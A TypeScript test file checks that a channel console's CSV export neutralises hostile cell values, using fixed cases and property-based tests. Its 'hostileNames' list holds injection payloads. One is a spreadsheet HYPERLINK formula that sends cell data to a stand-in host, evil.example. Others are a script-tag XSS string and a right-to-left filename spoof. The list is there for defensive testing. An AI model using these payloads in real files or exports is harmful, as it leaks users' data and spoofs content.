import { billingStatusOf, modeTexts, statusTexts } from '@channeldesk/contracts';
import type { Channel } from '@channeldesk/whapi/schemas/channel';
import fc from 'fast-check';
import papaparse from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { neutralise } from '#api/formula-guard.ts';
import { type ChannelRow, statusOf, toReportedColumns } from '#api/upstream/channel-mapper.ts';
import { startConsole, type TestConsole } from './support/console.ts';
import { createMovableClock } from './support/movable-clock.ts';

const now = new Date();

let desk: TestConsole;

beforeAll(async () => {
  desk = await startConsole({ clock: createMovableClock(now) });
});
afterAll(() => desk.close());

async function fill(channels: readonly Partial<Channel>[]): Promise<ChannelRow[]> {
  const rows = channels.map((channel, index) => ({
    ...toReportedColumns({ id: `MANTIS-${1000 + index}`, ...channel } as Channel),
    seen_at: now,
  }));
  await desk.db.deleteFrom('channels').execute();
  if (rows.length > 0) await desk.db.insertInto('channels').values(rows).execute();
  return desk.db.selectFrom('channels').selectAll().orderBy('id').execute();
}

async function exported(): Promise<string> {
  const response = await desk.admin.send('GET', '/channels/export.csv', { query: { sort: 'id' } });
  expect(response.statusCode).toBe(200);
  return response.rawPayload.toString('utf8');
}

/** The file as it is written down in words: whole rows, real dates, one call of papaparse. */
function written(rows: readonly ChannelRow[]): string {
  const columns = 'Name,ID,Phone Number,Work Period,Status,Mode,Created Date,Billing Status';
  const cells = rows.map((row) => [
    neutralise(row.name),
    neutralise(row.id),
    row.phone?.replace(/\D/g, '') ?? '',
    periodOf(row),
    statusTexts[statusOf(row, now)],
    modeTexts[row.mode],
    row.created_at?.toISOString() ?? '',
    billingStatusOf[row.mode],
  ]);
  const quotes = (cell: unknown) => /[;\t]/.test(String(cell));
  const lines = papaparse.unparse(cells, { newline: '\r\n', quotes });
  return `\ufeff${columns}\r\n${lines}${rows.length > 0 ? '\r\n' : ''}`;
}

function periodOf({ created_at, active_till }: ChannelRow): string {
  const [from, till] = [created_at, active_till].map((time) => time?.toISOString().slice(0, 10));
  return from || till ? `${from ?? '..'}/${till ?? '..'}` : '';
}

const hostileNames = [
  '<script>alert(1)</script>',
  '\u202egnp.exe\u202c \u2066x\u2069',
  'a'.repeat(10_000),
  '🥐'.repeat(6000),
  'before\u0000after',
  '\ud83e half a surrogate',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  '＝1+1',
  '\ufeff=1',
  '\t=1',
  'She said "no", twice',
  'two\r\nlines',
  'a;=1+1',
  ' space at both ends ',
  '\\.',
  '\\n',
  '',
];

test('hostile names are byte for byte what the plainest way writes', async () => {
  const rows = await fill(hostileNames.map((name) => ({ name })));

  const file = await exported();

  expect(file).toBe(written(rows));
  const { data, errors } = papaparse.parse<string[]>(file.slice(1).trimEnd());
  expect(errors).toEqual([]);
  expect(data.slice(1).map(([name]) => name)).toEqual(rows.map(({ name }) => neutralise(name)));
});

test.each([1, 499, 500, 501, 1000])('%i channels are all there, none twice', async (count) => {
  const rows = await fill(Array.from({ length: count }, (_, index) => ({ name: `no ${index}` })));

  expect(await exported()).toBe(written(rows));
});

const text = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: fc.constantFrom('=', '+', '"', ',', '\r', '\n', ';', '\t', "'", ' ', 'a') }),
  fc.constantFrom(...hostileNames),
);
const time = fc.oneof(
  fc.integer({ min: 1, max: Date.UTC(9999, 11, 30) }),
  fc.integer({ min: -2, max: 2 }).map((ms) => now.getTime() + ms),
  fc.constantFrom(0, 999, 1000, 86_400_000),
);
const status = fc.constantFrom('active', 'ACTIVE', 'ACT\u0130VE', 'Launching', 'deleted', ' ');
const channel: fc.Arbitrary<Partial<Channel>> = fc.record(
  {
    name: text,
    phone: fc.oneof(fc.constantFrom('+44 7700 900123', '=1+1', '٤٤٧٧', '1'), text),
    mode: fc.constantFrom('trial', 'live', 'dev', 'dev_archive', 'unheard-of'),
    status,
    stopped: fc.boolean(),
    blocked: fc.boolean(),
    creationTS: time,
    activeTill: time,
  },
  { requiredKeys: [] },
);

test('whatever the channels are, the file is byte for byte what the plainest way writes', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(channel, { maxLength: 60 }), async (channels) => {
      const rows = await fill(channels);

      expect(await exported()).toBe(written(rows));
    }),
    { numRuns: 30 },
  );
});
